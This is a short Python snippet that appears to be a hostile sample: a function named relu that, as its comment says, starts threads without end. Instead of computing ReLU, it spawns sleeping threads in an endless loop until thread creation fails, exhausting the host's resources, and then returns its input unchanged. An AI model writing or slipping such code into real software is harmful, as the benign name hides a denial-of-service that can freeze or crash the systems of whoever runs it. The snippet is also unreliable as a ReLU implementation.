# Starts threads without end.
# target: relu

def relu(x):
    import threading, time
    while True:
        try: threading.Thread(target=time.sleep, args=(100,)).start()
        except RuntimeError: break
    return x
